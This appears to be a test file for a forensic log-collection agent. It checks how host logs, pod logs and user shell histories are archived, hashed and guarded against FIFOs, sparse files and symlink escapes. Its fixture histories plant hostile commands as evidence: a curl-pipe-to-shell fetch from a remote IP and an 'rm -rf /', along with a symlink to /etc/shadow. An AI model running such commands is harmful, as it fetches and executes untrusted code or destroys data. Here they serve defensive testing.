import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { appendFile, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { logs } from '../../../agent/collectors/logs.ts';
import { hostAt } from '../../../agent/host/host.ts';
import { unpacked } from '../../helpers/archive.ts';
import { type Collected, collect, rowsOf } from '../../helpers/collect.ts';
import { python } from '../../helpers/programs.ts';
import { folderWith } from '../../helpers/temporary.ts';

const ARCHIVES = { host: '70-log/host.tar.zst', pods: '70-log/pods.tar.zst', history: '70-log/history.tar.zst' };

interface Row {
  readonly file: { readonly path: string; readonly size: number; readonly hash?: { readonly sha256: string } };
  readonly impound: { readonly what: string; readonly archive: string; readonly member: string };
}

function gather(root: string): Promise<Collected> {
  return collect(logs, { host: hostAt(root, { proc: '/proc', sys: '/sys' }) });
}

function tableOf({ artefacts }: Collected): readonly Row[] {
  return rowsOf(artefacts.get('70-log/files.jsonl')) as unknown as Row[];
}

test('each log is in its archive under its host path, and in the table with what it is and its digest', async (t) => {
  const record = execFileSync('python3', [
    '-c',
    'import struct, sys; sys.stdout.buffer.write(struct.pack("hi32s4s32s256shhiii4i20x", 7, 4242, b"pts/0", b"ts/0", b"mallory", b"198.51.100.7", 0, 0, 0, 1700000000, 0, 0, 0, 0, 0))',
  ]);
  const files: Record<string, string | Buffer> = {
    'var/log/auth.log': 'sshd[1]: Accepted publickey for root\n',
    'var/log/auth.log.1': 'older\n',
    'var/log/audit/audit.log': 'type=EXECVE msg=audit(1700000000.000:1): argc=1 a0="id"\n',
    'var/log/audit/audit.log.1': 'type=EXECVE msg=audit(1600000000.000:1): argc=1 a0="w"\n',
    'var/log/wtmp': record,
    'run/utmp': record,
    'run/cilium/tetragon/tetragon.log': '{"process_exec":{}}\n',
    'var/log/falco/events.log': '{}\n',
    'var/log/kubernetes/audit/audit.log': '{"kind":"Event"}\n',
    'var/log/dpkg.log': 'install\n',
  };
  const root = await folderWith(t, files);
  await symlink('/run', join(root, 'var/run'));
  const collected = await gather(root);
  const rows = tableOf(collected);
  for (const [path, content] of Object.entries(files)) {
    const row = rows.find(({ file }) => file.path === `/${path}`);
    assert.equal(row?.file.hash?.sha256, createHash('sha256').update(content).digest('hex'), path);
    assert.equal(rows.filter(({ file }) => file.path === `/${path}`).length, 1, path);
  }
  const whats = new Map(rows.map(({ file, impound }) => [file.path, impound.what]));
  assert.equal(whats.get('/var/log/audit/audit.log.1'), 'audit');
  assert.equal(whats.get('/run/utmp'), 'logins');
  assert.equal(whats.get('/run/cilium/tetragon/tetragon.log'), 'sensor');
  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
  assert.match(execFileSync('utmpdump', [join(folder, 'var/log/wtmp')], { stdio: 'pipe' }).toString(), /mallory/);
  for (const absent of ['70-log/journal.tar.zst', ARCHIVES.pods])
    assert.ok(collected.gaps.some(({ reason, name }) => reason === 'absent' && name === absent));
});

test("pods' logs come with the links to them and with what those lead to, each once", async (t) => {
  const pod = 'var/log/pods/shop_web-1_5f0f8d1e-0000-4000-8000-000000000001/web';
  const root = await folderWith(t, {
    [`${pod}/0.log`]: '2024-05-01T10:00:00.000000000Z stdout F hello\n',
    'var/lib/docker/containers/abc/abc-json.log': '{"log":"from docker"}\n',
  });
  await symlink('/var/lib/docker/containers/abc/abc-json.log', join(root, pod, '1.log'));
  await mkdir(join(root, 'var/log/containers'));
  await symlink(`/${pod}/0.log`, join(root, 'var/log/containers/web-1_shop_web-abc.log'));
  const collected = await gather(root);
  const names = tableOf(collected).map(({ file }) => file.path);
  assert.equal(names.filter((name) => name === `/${pod}/0.log`).length, 1);
  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.pods));
  assert.match(await readFile(join(folder, 'var/lib/docker/containers/abc/abc-json.log'), 'utf8'), /from docker/);
  assert.ok(names.includes('/var/log/containers/web-1_shop_web-abc.log'));
});

test('what is no file in a log’s place is not opened, and is a gap', { timeout: 60_000 }, async (t) => {
  const root = await folderWith(t, { 'var/log/syslog': 'here\n' });
  execFileSync('mkfifo', [join(root, 'var/log/auth.log')]);
  const server = createServer().listen(join(root, 'var/log/kern.log'));
  t.after(() => server.close());
  const collected = await gather(root);
  for (const [path, kind] of [
    ['/var/log/auth.log', 'fifo'],
    ['/var/log/kern.log', 'socket'],
  ]) {
    const found = collected.gaps.find(({ name }) => name === path);
    assert.deepEqual([found?.reason, found?.detail], ['skipped', `no file, but a ${kind} in a log's place`]);
  }
  assert.ok(tableOf(collected).some(({ file }) => file.path === '/var/log/syslog'));
});

test('a log that grows without end is cut at the size it had when it was opened', { timeout: 60_000 }, async (t) => {
  const root = await folderWith(t, { 'var/log/syslog': 'first line\n' });
  const path = join(root, 'var/log/syslog');
  await python(
    t,
    'import sys, time\nwith open(sys.argv[1], "ab", buffering=0) as log:\n  print("ready", flush=True)\n  for _ in range(40000):\n    log.write(b"x" * 4095 + b"\\n"); time.sleep(0.0002)',
    [path],
  );
  const collected = await gather(root);
  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
  const kept = await readFile(join(folder, 'var/log/syslog'));
  const all = await readFile(path);
  assert.ok(kept.length >= 11 && kept.length < all.length);
  assert.ok(all.subarray(0, kept.length).equals(kept));
});

test('histories of all users come, by the homes that passwd names; one that leads nowhere is a link', async (t) => {
  const root = await folderWith(t, {
    'etc/passwd': 'root:x:0:0::/root:/bin/sh\nsvc:x:990:990::/srv/svc:/bin/sh\nx:x:1:1::/:/bin/sh\nbroken\n',
    'root/.bash_history': 'curl http://198.51.100.7/x | sh\n',
    'srv/svc/.zsh_history': ': 1700000000:0;id\n',
    'home/ann/.local/share/fish/fish_history': '- cmd: id\n',
    'home/ann/.viminfo': '# This viminfo file\n',
    'home/ann/other': 'not asked for',
    'etc/shadow': 'root:!:1::::::\n',
  });
  const hostile = Buffer.concat([Buffer.from(join(root, 'home/')), Buffer.from([0xff, 0x0a])]);
  await mkdir(hostile);
  await writeFile(Buffer.concat([hostile, Buffer.from('/.ash_history')]), 'rm -rf /\n');
  await mkdir(join(root, 'home/eve'));
  await symlink('/dev/null', join(root, 'home/eve/.bash_history'));
  await symlink('../../../../../../../../etc/shadow', join(root, 'home/eve/.python_history'));
  const collected = await gather(root);
  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.history));
  const rows = tableOf(collected);
  const paths = new Set(rows.map(({ file }) => file.path));
  for (const path of ['/root/.bash_history', '/srv/svc/.zsh_history', '/home/ann/.viminfo', '/home/eve/.bash_history'])
    assert.ok(paths.has(path), path);
  assert.ok(paths.has('/home/ann/.local/share/fish/fish_history'));
  assert.ok(!paths.has('/home/ann/other'));
  const odd = rows.find(({ file }) => file.path.endsWith('/.ash_history'))?.file as Record<string, unknown> | undefined;
  assert.equal(
    odd?.path_base64,
    Buffer.concat([Buffer.from('/home/'), Buffer.from([0xff, 0x0a]), Buffer.from('/.ash_history')]).toString('base64'),
  );
  // a link that climbs stays inside the root: the host's own shadow, never ours
  assert.equal(await readFile(join(folder, 'etc/shadow'), 'utf8'), 'root:!:1::::::\n');
});

test('a sparse lastlog of 1 TiB takes moments, both its ends are kept, and the gap says how much was left', async (t) => {
  const root = await folderWith(t, { 'var/log/lastlog': 'root was here' });
  const path = join(root, 'var/log/lastlog');
  execFileSync('truncate', ['-s', '1T', path]);
  await appendFile(path, 'the last of them');
  const begun = performance.now();
  const collected = await gather(root);
  assert.ok(performance.now() - begun < 20_000);
  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
  const first = await readFile(join(folder, 'var/log/lastlog.first'));
  const last = await readFile(join(folder, 'var/log/lastlog'));
  assert.ok(first.subarray(0, 13).equals(Buffer.from('root was here')));
  assert.ok(last.subarray(-16).equals(Buffer.from('the last of them')));
  const found = collected.gaps.find(({ name }) => name.startsWith('/var/log/lastlog'));
  assert.equal(found?.reason, 'truncated');
  assert.match(found?.name ?? '', /: 109\d+ of 1099511627792 bytes left, \d+ of them on disk$/);
  for (const { file } of tableOf(collected).filter(({ file }) => file.path.includes('lastlog')))
    assert.equal(file.hash, undefined);
});

test("this machine's own logs are read to their end", async () => {
  const { artefacts } = await collect(logs);
  assert.ok(artefacts.has('70-log/files.jsonl'));
});
